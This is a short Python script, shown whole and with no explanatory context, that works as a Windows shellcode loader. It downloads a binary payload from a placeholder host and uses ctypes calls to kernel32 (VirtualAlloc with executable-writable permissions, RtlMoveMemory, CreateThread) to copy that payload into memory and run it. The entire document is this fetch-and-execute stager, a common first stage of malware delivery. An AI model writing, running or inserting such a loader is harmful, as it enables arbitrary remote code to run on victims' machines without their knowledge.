import ctypes
import urllib.request

blob = urllib.request.urlopen("https://x.invalid/sc").read()
space = ctypes.windll.kernel32.VirtualAlloc(0, len(blob), 0x3000, 0x40)
ctypes.windll.kernel32.RtlMoveMemory(space, blob, len(blob))
ctypes.windll.kernel32.CreateThread(0, 0, space, 0, 0, 0)
